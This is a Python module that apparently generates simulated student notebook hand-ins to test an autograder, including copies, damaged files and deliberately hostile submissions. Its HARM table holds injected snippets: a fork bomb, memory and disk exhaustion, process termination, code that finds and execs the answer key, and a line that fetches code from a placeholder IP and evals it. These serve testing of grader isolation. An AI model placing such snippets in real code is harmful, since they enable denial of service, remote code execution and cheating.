"""A simulated class: hand-ins of which it is known what they are and what must come out when they are graded.

The demonstration, the benchmark and the tests grade it. Each hand-in is the released notebook, filled in with the
reference, with known mistakes, with right alternatives, with code that means harm, or damaged as a file.
Harmful code is bounded, so that it does no lasting damage where somebody grades it without isolation.
"""

from __future__ import annotations

import ast
import copy
import math
import random
import re
import tempfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from grader.chapter import ANSWER_LINE, filled, subject
from grader.gradebook import register
from grader.implementations import Implementation, alternatives, mistakes
from grader.typed import typed
from recbook.question import Question
from recbook.questions import of_chapter

#: Names of people; where a class is larger, they come again with a number. Some are awkward on purpose.
_NAMES = (
    "ada", "ben", "chidi", "dora", "emil", "fatima", "goran", "hana", "ivan", "julia", "kofi", "lena", "mehmet", "nora",
    "olga", "pablo", "quentin", "ravi", "sofia", "tomas", "uma", "víctor", "wanda", "xin", "yusuf", "zoë", "amélie",
    "bruno", "clara", "david",
)  # fmt: skip
#: A folder's name may hold anything but "/" and NUL.
_AWKWARD = "<b>mallory & co"


@dataclass(frozen=True)
class Simulated:
    """One simulated hand-in: what it is, and what is known of its verdicts.

    `right` and `wrong` are the ids of exercises that must come out right, or with fewer than all points; of the others
    nothing is known before they are graded. `mistakes` says which known mistake stands in which exercise.
    """

    student: str
    #: perfect, alternatives, untouched, half done, mixed, copy, hostile or broken.
    kind: str
    what: str
    path: Path
    right: frozenset[str] = frozenset()
    wrong: frozenset[str] = frozenset()
    mistakes: Mapping[str, str] = field(default_factory=dict)
    #: False where there is nothing to run: every exercise then has 0 points.
    readable: bool = True


@dataclass(frozen=True)
class _Work:
    """A notebook before it is handed in."""

    kind: str
    what: str
    #: Exercise id -> the source of its cell; the stub where there is none.
    cells: Mapping[str, str] = field(default_factory=dict)
    right: frozenset[str] = frozenset()
    wrong: frozenset[str] = frozenset()
    mistakes: Mapping[str, str] = field(default_factory=dict)
    essay: str = ""
    #: The content and the name of the file, made from the notebook.
    damage: Callable[[bytes], bytes] = bytes
    file_name: str = ""
    readable: bool = True


def simulate(
    chapter: str,
    n: int,
    seed: int,
    folder: Path | str,
    *,
    hostile: bool = True,
    broken: bool = True,
    given_cells: bool = True,
    release: NotebookNode | None = None,
) -> list[Simulated]:
    """Write `n` hand-ins as FOLDER/<student>/<chapter>/<chapter>.ipynb and say what each is. Same seed, same bytes.

    About a quarter is `hostile` and a sixth `broken`, unless left out. Where there are enough others, every known
    mistake of every exercise stands in at least one hand-in. `given_cells` False leaves out the cells that train and
    draw, for tests that have to be quick. `release` is the released notebook; without it, it is made here.
    """
    folder, rng = Path(folder), random.Random(f"{chapter}:{seed}:{n}:{hostile}:{broken}")
    notebook = copy.deepcopy(release) if release else _release(chapter)
    if not given_cells:
        notebook.cells = [cell for cell in notebook.cells if not _is_given(cell) or _imports(cell)]
    course = _Course(chapter, notebook)
    students = _students(n, awkward=hostile, rng=rng)
    works = _works(course, n, hostile, broken, rng)
    return [_hand_in(course, folder, *each) for each in zip(students, works, strict=True)]


def _release(chapter: str) -> NotebookNode:
    with tempfile.TemporaryDirectory() as folder:
        return register(chapter, Path(folder))


def _imports(cell: NotebookNode) -> bool:
    return cell.cell_type == "code" and "import torch" in cell.source


def _students(n: int, *, awkward: bool, rng: random.Random) -> list[str]:
    names = [name if lap == 0 else f"{name}{lap + 1}" for lap in range(n // len(_NAMES) + 1) for name in _NAMES][:n]
    if awkward and n > 1:
        names[-1] = _AWKWARD
    rng.shuffle(names)
    return names


# --- What can stand in a cell --------------------------------------------------------------------------------------


class _Course:
    """The released notebook of a chapter, and the texts its exercises can be filled with."""

    def __init__(self, chapter: str, notebook: NotebookNode) -> None:
        self.chapter, self.notebook = chapter, notebook
        self.questions = [each for each in of_chapter(chapter) if isinstance(each, Question)]
        self.stubs = {
            question.id: cell.source
            for question in self.questions
            for cell in notebook.cells
            if cell.metadata.get("nbgrader", {}).get("grade_id") == f"{question.grade_id}-code"
        }
        self._typed: dict[tuple[str, str, str], str] = {}

    @property
    def ids(self) -> frozenset[str]:
        return frozenset(self.stubs)

    def reference(self, question: Question) -> str:
        return filled(self.stubs[question.id], self.chapter)

    def typed(self, question: Question, implementation: Implementation) -> str:
        key = (question.id, implementation.name, implementation.hint)
        if key not in self._typed:
            self._typed[key] = typed(implementation, question, self.stubs[question.id])
        return self._typed[key]

    def targets(self) -> list[Question]:
        """The exercises to attack from: functions that nothing else in the notebook calls, if there are such."""
        functions = [each for each in self.questions if isinstance(subject(self.stubs[each.id]), ast.FunctionDef)]
        return [each for each in functions if not self._is_used(each)] or functions

    def _is_used(self, question: Question) -> bool:
        elsewhere = [cell.source for cell in self.notebook.cells if cell.cell_type == "code" and _is_given(cell)]
        elsewhere += [self.reference(each) for each in self.questions if each.id != question.id]
        return bool(re.search(rf"\b{question.subject}\b", "\n".join(elsewhere)))


def _is_given(cell: NotebookNode) -> bool:
    return "nbgrader" not in cell.metadata


# --- Who is in the class -------------------------------------------------------------------------------------------


def _works(course: _Course, n: int, hostile: bool, broken: bool, rng: random.Random) -> list[_Work]:
    n_hostile = min(n * len(HARM) // 30, max(len(HARM), n // 50)) if hostile else 0
    n_broken = min(n * len(_DAMAGE) // 30, max(len(_DAMAGE), n // 50)) if broken else 0
    n_ordinary = n - n_hostile - n_broken
    fixed = _fixed_kinds(n_ordinary)
    n_mixed = n_ordinary - sum(fixed.values())
    harmed = [list(HARM)[i % len(HARM)] for i in range(n_hostile)]
    damaged = [list(_DAMAGE)[i % len(_DAMAGE)] for i in range(n_broken)]
    n_kept = sum(_DAMAGE[name][2] for name in damaged)

    targets = [rng.choice(course.targets()) for _ in harmed]
    mixed = _mixed(course, [*(each.id for each in targets), *[""] * (n_mixed + n_kept)], rng)
    attackers, works, kept = mixed[:n_hostile], mixed[n_hostile:][:n_mixed], iter(mixed[n_hostile + n_mixed :])
    works += [_perfect(course)] * fixed["perfect"]
    works += [_alternatives(course, rng) for _ in range(fixed["alternatives"])]
    works += [_Work("untouched", "nothing filled in", wrong=course.ids)] * fixed["untouched"]
    works += [_half(course, rng) for _ in range(fixed["half done"])]
    works += _copies(course, works, fixed["copy"], rng)
    works += [_harm(course, *each) for each in zip(harmed, targets, attackers, strict=True)]
    works += [_damage(course, name, kept) for name in damaged]
    return works


def _fixed_kinds(n: int) -> dict[str, int]:
    """How many of n ordinary hand-ins are of each kind; the rest is mixed."""
    if n < 6:
        order = ("perfect", "untouched", "half done", "alternatives", "copy")
        return {kind: int(i < n) for i, kind in enumerate(order)}
    shares = {"perfect": 0.08, "alternatives": 0.05, "untouched": 0.04, "half done": 0.08, "copy": 0.04}
    return {kind: max(1, round(share * n)) for kind, share in shares.items()}


def _perfect(course: _Course) -> _Work:
    cells = {each.id: course.reference(each) for each in course.questions}
    return _Work("perfect", "the reference in every exercise", cells, right=course.ids, essay=_ESSAY)


def _alternatives(course: _Course, rng: random.Random) -> _Work:
    cells = {each.id: course.typed(each, rng.choice(alternatives(each))) for each in course.questions}
    return _Work("alternatives", "right, but written differently", cells, right=course.ids, essay=_ESSAY)


def _half(course: _Course, rng: random.Random) -> _Work:
    done = course.questions[: max(1, round(len(course.questions) * rng.uniform(0.3, 0.7)))]
    right = frozenset(each.id for each in done)
    cells = {each.id: course.reference(each) for each in done}
    return _Work("half done", f"the first {len(done)} exercises", cells, right, course.ids - right)


def _mixed(course: _Course, spared: Sequence[str], rng: random.Random) -> list[_Work]:
    """Hand-ins by students of different strength: right answers, known mistakes, empty stubs.

    There is one for each entry of `spared`, the id of an exercise in which it shall have no mistake ("": none). Every
    known mistake is dealt out once where there are students enough; then common ones come again.
    """
    weakness = [rng.uniform(0.15, 1.0) for _ in spared]
    dealt: list[dict[str, Implementation]] = [{} for _ in spared]
    for question in course.questions:
        known = mistakes(question)
        able = [student for student, id in enumerate(spared) if id != question.id]
        n_wrong = min(len(able), max(len(known), round(rng.uniform(0.15, 0.6) * len(able))))
        drawn = rng.sample(known, min(len(known), n_wrong))
        drawn += rng.choices(known, [1 / (i + 1) for i in range(len(known))], k=n_wrong - len(drawn))
        for student, mistake in zip(_draw(able, weakness, n_wrong, rng), drawn, strict=True):
            dealt[student][question.id] = mistake
    return [_one_mixed(course, *each, rng) for each in zip(dealt, weakness, strict=True)]


def _draw(students: Sequence[int], weakness: Sequence[float], k: int, rng: random.Random) -> list[int]:
    """k different students, the weaker ones more often."""
    keys = sorted((math.log(1 - rng.random()) / weakness[student], student) for student in students)
    return [student for _, student in keys[-k:]] if k else []


def _one_mixed(course: _Course, wrong: Mapping[str, Implementation], weakness: float, rng: random.Random) -> _Work:
    cells, right = {}, set()
    for question in course.questions:
        if question.id in wrong:
            cells[question.id] = course.typed(question, wrong[question.id])
        elif rng.random() > 0.15 * weakness:
            right.add(question.id)
            other = rng.choice(alternatives(question)) if rng.random() < 0.3 else None
            cells[question.id] = course.typed(question, other) if other else course.reference(question)
    names = {id: mistake.name for id, mistake in wrong.items()}
    what = f"{len(right)} right, {len(wrong)} known mistakes, {len(course.stubs) - len(cells)} left out"
    return _Work("mixed", what, cells, frozenset(right), course.ids - right, names, rng.choice(("", _ESSAY)))


_ESSAY = "I compared the columns: where two are nearly the same, one of them says nothing new."


# --- Copying -------------------------------------------------------------------------------------------------------


def _copies(course: _Course, works: list[_Work], n: int, rng: random.Random) -> list[_Work]:
    """Copies of mixed hand-ins with other names and comments. A copied hand-in gets wrong code nobody else has."""
    sources = [index for index, work in enumerate(works) if work.kind == "mixed"]
    if not sources:
        return [_perfect(course)] * n
    copies = []
    for index in (rng.choice(sources) for _ in range(n)):
        works[index] = original = _with_own_faults(course, works[index], rng)
        cells = {id: _disguised(source) for id, source in original.cells.items()}
        copies.append(
            _Work("copy", "somebody's work under other names", cells, original.right, original.wrong, original.mistakes)
        )
    return copies


def _with_own_faults(course: _Course, work: _Work, rng: random.Random) -> _Work:
    """Four of the right exercises spoilt in a way that is in no list. Their verdicts are not known beforehand."""
    able = {each.id: spoilt for each in course.questions if (spoilt := _spoilt(course.reference(each), rng))}
    chosen = rng.sample(sorted(able.keys() & work.right), min(4, len(able.keys() & work.right)))
    return _Work(
        work.kind, work.what, {**work.cells, **{id: able[id] for id in chosen}}, work.right - set(chosen), work.wrong,
        work.mistakes, work.essay,
    )  # fmt: skip


_SWAPPED = {ast.Add: ast.Sub, ast.Sub: ast.Add, ast.Mult: ast.Div, ast.Div: ast.Mult, ast.Gt: ast.Lt, ast.Lt: ast.Gt}


def _spoilt(source: str, rng: random.Random) -> str:
    """The code with one operator swapped; "" where there is none."""
    tree = ast.parse(source)
    places = [node for node in ast.walk(tree) if isinstance(node, ast.BinOp) and type(node.op) in _SWAPPED]
    places += [node for node in ast.walk(tree) if isinstance(node, ast.Compare) and type(node.ops[0]) in _SWAPPED]
    if not places:
        return ""
    place = rng.choice(places)
    if isinstance(place, ast.BinOp):
        place.op = _SWAPPED[type(place.op)]()
    else:
        place.ops[0] = _SWAPPED[type(place.ops[0])]()
    return ast.unparse(tree)


def _disguised(source: str) -> str:
    """The same code with a comment, and local variables of functions under other names."""
    tree = ast.parse(source)
    for function in (node for node in tree.body if isinstance(node, ast.FunctionDef)):
        inside = list(ast.walk(function))
        fixed = {name for node in inside if isinstance(node, ast.Global | ast.Nonlocal) for name in node.names}
        local = {node.id for node in inside if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store)}
        local -= fixed | {node.arg for node in inside if isinstance(node, ast.arg)}
        for node in inside:
            if isinstance(node, ast.Name) and node.id in local:
                node.id = f"my_{node.id}"
    return f"# My own work.\n{ast.unparse(tree)}"


# --- Meaning harm --------------------------------------------------------------------------------------------------

#: What is put first in a function: statements that do harm. Its exercise must then not be right.
HARM: dict[str, str] = {
    "infinite loop": "while True:\n    pass",
    "ends the process": "import os\nos._exit(0)",
    "fork bomb": """\
import os, time
for _ in range(500):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
raise RuntimeError('forked')""",
    "memory hog": """\
hoard = []
while len(hoard) < 200:
    hoard.append(b'x' * (1 << 26))
raise RuntimeError('hoarded')""",
    "disk filler": """\
import tempfile
for _ in range(40):
    with tempfile.NamedTemporaryFile(delete=False) as file:
        for _ in range(60):
            file.write(b'x' * (1 << 20))
raise RuntimeError('filled')""",
    "reads the answers": """\
import os, recbook
for place in ('solutions', '../solutions', os.path.join(os.path.dirname(recbook.__file__), '..', '..', 'solutions')):
    path = os.path.join(place, '{chapter}.py')
    if os.path.exists(path):
        names = {{}}
        exec(open(path).read(), names)
        return names['{subject}'](*{arguments})
raise FileNotFoundError('no answers here')""",
    "asks the network": """\
import urllib.request
return eval(urllib.request.urlopen('http://192.0.2.1/{chapter}/{subject}', timeout=2).read())""",
}


def _harm(course: _Course, name: str, target: Question, work: _Work) -> _Work:
    cell = harmful(course.reference(target), HARM[name], course.chapter)
    return _Work(
        "hostile", f"{name} in {target.name}", {**work.cells, target.id: cell}, work.right - {target.id},
        work.wrong | {target.id}, work.mistakes, work.essay,
    )  # fmt: skip


def harmful(cell: str, harm: str, chapter: str) -> str:
    """The cell with one of `HARM` put first in its function."""
    tree = ast.parse(cell)
    function = next(node for node in tree.body if isinstance(node, ast.FunctionDef))
    names = [each.arg for each in [*function.args.posonlyargs, *function.args.args]]
    if "{chapter}" in harm:
        arguments = f"({''.join(f'{each}, ' for each in names)})"
        harm = harm.format(chapter=chapter, subject=function.name, arguments=arguments)
    place = 1 if ast.get_docstring(function) else 0
    text = f"def harm():\n{''.join(f'    {line}' + chr(10) for line in harm.splitlines())}"
    function.body[place:place] = ast.parse(text).body[0].body
    return ast.unparse(ast.fix_missing_locations(tree))


# --- Broken files --------------------------------------------------------------------------------------------------


def _other_chapter(_: bytes) -> bytes:
    cells = [
        nbformat.v4.new_markdown_cell("# Another chapter", id="title"),
        nbformat.v4.new_code_cell("x = 1\nprint(x)", id="code"),
    ]
    return nbformat.writes(nbformat.v4.new_notebook(cells=cells)).encode()


#: name -> what becomes of the file's content, its name, and whether the work survives.
_DAMAGE: dict[str, tuple[Callable[[bytes], bytes], str, bool]] = {
    "empty file": (lambda content: b"", "", False),
    "cut off in the middle": (lambda content: content[: len(content) // 2], "", False),
    "another chapter": (_other_chapter, "", False),
    "renamed": (bytes, "Copy of {chapter} (1).ipynb", True),
    "with a byte order mark": (lambda content: b"\xef\xbb\xbf" + content, "", True),
}


def _damage(course: _Course, name: str, kept: Iterable[_Work]) -> _Work:
    damage, file_name, survives = _DAMAGE[name]
    file_name = file_name.format(chapter=course.chapter)
    if survives:
        work = next(iter(kept))
        return _Work("broken", name, work.cells, work.right, work.wrong, work.mistakes, work.essay, damage, file_name)
    # Another chapter can be read, but nothing that was asked for is in it.
    return _Work("broken", name, wrong=course.ids, damage=damage, readable=name == "another chapter")


# --- Handing in ----------------------------------------------------------------------------------------------------


def _hand_in(course: _Course, folder: Path, student: str, work: _Work) -> Simulated:
    notebook = copy.deepcopy(course.notebook)
    cells = {f"{id.replace('.', '-')}-code": source for id, source in work.cells.items()}
    for cell in notebook.cells:
        ours = cell.metadata.get("nbgrader", {})
        if not ours.get("solution"):
            continue
        if cell.cell_type == "code":
            cell.source = cells.get(ours.grade_id, cell.source)
        elif work.essay:
            cell.source = cell.source.replace(ANSWER_LINE, work.essay)
    path = folder / student / course.chapter / (work.file_name or f"{course.chapter}.ipynb")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(work.damage(nbformat.writes(notebook).encode()))
    return Simulated(student, work.kind, work.what, path, work.right, work.wrong, work.mistakes, work.readable)
